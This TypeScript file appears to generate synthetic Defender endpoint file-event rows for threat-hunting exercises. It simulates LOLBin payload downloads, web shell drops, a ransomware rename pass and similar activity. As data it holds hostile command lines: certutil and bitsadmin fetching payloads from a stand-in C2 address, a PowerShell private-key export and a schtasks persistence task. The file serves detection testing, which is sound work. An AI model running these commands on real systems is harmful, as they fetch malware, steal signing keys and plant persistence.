import { fileHashes } from '../files.js';
import type { Machine } from '../model.js';
import { initiatingVariant as by, type Profile, type Variant } from './background-generic.js';
import type { BackgroundContext } from './context.js';
import type { RowSource } from './table.js';

/**
 * File activity public hunts look for beyond the catalog (hunt-catalog.ts): payloads dropped by the
 * LOLBin that fetched them (its whole command line, as MDE records it), startup-folder drops by an
 * exploited reader or archiver, web shells written by IIS and Exchange workers, print-spooler driver
 * drops, a private-key export, script and shortcut lures, a browser-downloaded MMC console, and
 * Outlook's store read by a mail stealer. FolderPath holds the full path, as in MDE.
 */
const C2 = '198.51.100.23';
const SYS = 'C:\\Windows\\System32';

function file(action: string, folder: string, name: string, by: Variant, extra: Variant = {}): Variant {
  return {
    ActionType: action,
    FileName: name,
    FolderPath: `${folder}\\${name}`,
    FileOriginUrl: '',
    ...by,
    ...extra,
  };
}

const USER = 'C:\\Users\\Public';
const STARTUP = `${USER}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup`;
const EXCHANGE = 'C:\\Program Files\\Microsoft\\Exchange Server\\V15';
const w3wp = by(
  `${SYS}\\inetsrv`,
  'w3wp.exe',
  'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "MSExchangeOWAAppPool" -v "v4.0" -c "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\GenericAppPoolConfigWithGCServerEnabledFalse.config" -a \\\\.\\pipe\\iisipm -h "C:\\inetpub\\temp\\apppools\\MSExchangeOWAAppPool\\MSExchangeOWAAppPool.config" -w "" -m 0',
  'svchost.exe',
);

export const HN_FILES: Profile = [
  file(
    'FileCreated',
    USER,
    'p.exe',
    by(
      SYS,
      'certutil.exe',
      `certutil.exe -urlcache -split -f http://${C2}/payload.exe C:\\Users\\Public\\p.exe`,
      'cmd.exe',
    ),
    { FileOriginUrl: `http://${C2}/payload.exe`, FileOriginIP: C2 },
  ),
  file(
    'FileCreated',
    'C:\\ProgramData\\Updater',
    'update.exe',
    by(
      SYS,
      'bitsadmin.exe',
      `bitsadmin.exe /transfer job /download /priority high http://${C2}/b.exe C:\\ProgramData\\Updater\\update.exe`,
      'cmd.exe',
    ),
    { FileOriginUrl: `http://${C2}/b.exe`, FileOriginIP: C2 },
  ),
  file(
    'FileCreated',
    STARTUP,
    'OneDriveSync.lnk',
    by(
      'C:\\Program Files (x86)\\Adobe\\Acrobat Reader DC\\Reader',
      'AcroRd32.exe',
      '"AcroRd32.exe" "C:\\Users\\Public\\Downloads\\invoice.pdf"',
    ),
  ),
  file(
    'FileCreated',
    STARTUP,
    'update.exe',
    by(
      'C:\\Program Files\\WinRAR',
      'WinRAR.exe',
      '"C:\\Program Files\\WinRAR\\WinRAR.exe" "C:\\Users\\Public\\Downloads\\photos.rar"',
    ),
  ),
  file(
    'FileCreated',
    `${USER}\\Downloads`,
    'photos.ace',
    by('C:\\Program Files (x86)\\Microsoft\\Edge\\Application', 'msedge.exe', '"msedge.exe" --type=utility'),
    { FileOriginUrl: `http://${C2}/photos.ace` },
  ),
  file('FileCreated', 'C:\\inetpub\\wwwroot\\aspnet_client', 'errorEE.aspx', w3wp),
  file('FileCreated', `${EXCHANGE}\\FrontEnd\\HttpProxy\\owa\\auth`, 'shell.aspx', w3wp),
  file(
    'FileCreated',
    `${EXCHANGE}\\FrontEnd\\HttpProxy\\owa\\auth`,
    'discover.aspx',
    by(
      `${EXCHANGE}\\Bin`,
      'UMWorkerProcess.exe',
      '"UMWorkerProcess.exe" 25376 25377 3b00c3c0-f7e4-4ce0-9d5e-d3e5a4c3e1b0',
      'UMService.exe',
    ),
  ),
  file(
    'FileCreated',
    `${SYS}\\spool\\drivers\\x64\\3`,
    'kernelbase.dll',
    by(SYS, 'spoolsv.exe', 'C:\\Windows\\System32\\spoolsv.exe', 'services.exe'),
  ),
  file(
    'FileCreated',
    `${USER}\\Documents`,
    'exported-signing.pfx',
    by(
      `${SYS}\\WindowsPowerShell\\v1.0`,
      'powershell.exe',
      'powershell.exe -c "Get-ChildItem Cert:\\CurrentUser\\My | Export-PfxCertificate -FilePath C:\\Users\\Public\\Documents\\exported-signing.pfx -Password $p"',
    ),
  ),
  file(
    'FileCreated',
    `${USER}\\Downloads`,
    'invoice.jse',
    by('C:\\Program Files\\Microsoft Office\\root\\Office16', 'OUTLOOK.EXE', '"OUTLOOK.EXE" /eml'),
  ),
  file(
    'FileCreated',
    `${USER}\\Downloads`,
    'settings.settingcontent-ms',
    by('C:\\Program Files\\Google\\Chrome\\Application', 'chrome.exe', '"chrome.exe"'),
    { FileOriginUrl: `http://${C2}/settings.settingcontent-ms` },
  ),
  file(
    'FileCreated',
    `${USER}\\Desktop`,
    'Invoice.pdf.lnk',
    by(SYS, 'explorer.exe', 'C:\\Windows\\Explorer.EXE', 'userinit.exe'),
  ),
  file(
    'FileRenamed',
    `${USER}\\Downloads`,
    'console.msc',
    by('C:\\Program Files\\Google\\Chrome\\Application', 'chrome.exe', '"chrome.exe" --type=utility'),
    { PreviousFileName: 'Unconfirmed 482913.crdownload', FileOriginUrl: `http://${C2}/console.msc` },
  ),
  file(
    'FileCreated',
    `${USER}\\AppData\\Roaming\\Microsoft\\Office\\Recent`,
    'Overview.url',
    by(
      'C:\\Program Files\\Microsoft Office\\root\\Office16',
      'WINWORD.EXE',
      '"WINWORD.EXE" /n "C:\\Users\\Public\\Downloads\\Overview.docx"',
    ),
  ),
  // A macro saving its dropper under a temporary name, then renaming it into the Startup folder.
  file(
    'FileRenamed',
    STARTUP,
    'update.vbs',
    by(
      'C:\\Program Files\\Microsoft Office\\root\\Office16',
      'WINWORD.EXE',
      '"WINWORD.EXE" /n "C:\\Users\\Public\\Downloads\\Invoice-4471.docm"',
    ),
    { PreviousFileName: '~WRD0003.tmp' },
  ),
  // Qakbot's mail theft: injected into a ping loop under msra.exe, staging the Outlook store.
  file(
    'FileCreated',
    `${USER}\\AppData\\Local\\Temp\\EmailStorage_WKS01_user_1733390000\\Outlook`,
    'Inbox-0017.eml',
    by(SYS, 'ping.exe', 'ping.exe -t 127.0.0.1', 'msra.exe'),
  ),
  file(
    'FileCreated',
    `${SYS}\\Tasks`,
    'OneDrive Update',
    by(
      SYS,
      'schtasks.exe',
      'schtasks.exe /create /sc minute /mo 30 /tn "OneDrive Update" /tr "C:\\Users\\Public\\update.exe" /f',
      'cmd.exe',
    ),
  ),
];

/** Documents a ransomware run encrypts on the file share, renamed to `<name>.<ext>.locked`. */
const DOCUMENTS = [
  'Budget',
  'Payroll',
  'Forecast',
  'Contracts',
  'Board-Minutes',
  'Invoices',
  'Audit',
  'Pricing',
];
const EXTENSIONS = ['.xlsx', '.docx', '.pdf'];

/**
 * Ransomware's encryption pass on the Finance share: one process renames two dozen documents to a
 * double extension within a minute (plus the ransom note of the catalog). Three runs: three days,
 * nine days and twenty days before the anchor, on different machines.
 */
export function ransomwareRenames(context: BackgroundContext): RowSource {
  const per = DOCUMENTS.length * EXTENSIONS.length;
  const ages = [3, 9, 20].map((d) => d * 86_400_000 + 4 * 3_600_000);
  const binary = 'svchost.exe';
  const folder = 'C:\\Users\\Public\\Libraries';
  const hashes = fileHashes(context.seed, `${folder}\\${binary}`.toLowerCase());
  return {
    count: per * ages.length,
    row(i, into) {
      const run = Math.floor(i / per);
      const k = i % per;
      const machine = context.machines[(run * 11 + 2) % context.machines.length] as Machine;
      const previous = `${DOCUMENTS[k % DOCUMENTS.length]}${EXTENSIONS[Math.floor(k / DOCUMENTS.length)]}`;
      const name = `${previous}.locked`;
      const start = context.anchor - (ages[run] as number);
      const path = `C:\\Shares\\Finance\\${name}`;
      const own = fileHashes(context.seed, path.toLowerCase());
      Object.assign(into, {
        Timestamp: start + k * 1_500,
        DeviceId: machine.id,
        DeviceName: machine.computerDnsName,
        ActionType: 'FileRenamed',
        FileName: name,
        FolderPath: path,
        PreviousFileName: previous,
        PreviousFolderPath: `C:\\Shares\\Finance\\${previous}`,
        SHA1: own.sha1,
        SHA256: own.sha256,
        MD5: own.md5,
        FileSize: 40_000 + ((k * 7919) % 900_000),
        InitiatingProcessFileName: binary,
        InitiatingProcessFolderPath: `${folder}\\${binary}`,
        InitiatingProcessCommandLine: `"${folder}\\${binary}" -path C:\\Shares -nolog`,
        InitiatingProcessSHA1: hashes.sha1,
        InitiatingProcessSHA256: hashes.sha256,
        InitiatingProcessMD5: hashes.md5,
        InitiatingProcessId: 6_600 + run,
        InitiatingProcessCreationTime: start - 120_000,
        InitiatingProcessParentFileName: 'cmd.exe',
        InitiatingProcessAccountDomain: 'nt authority',
        InitiatingProcessAccountName: 'system',
        InitiatingProcessAccountSid: 'S-1-5-18',
        InitiatingProcessIntegrityLevel: 'System',
        ReportId: 960_000 + i,
      });
    },
  };
}
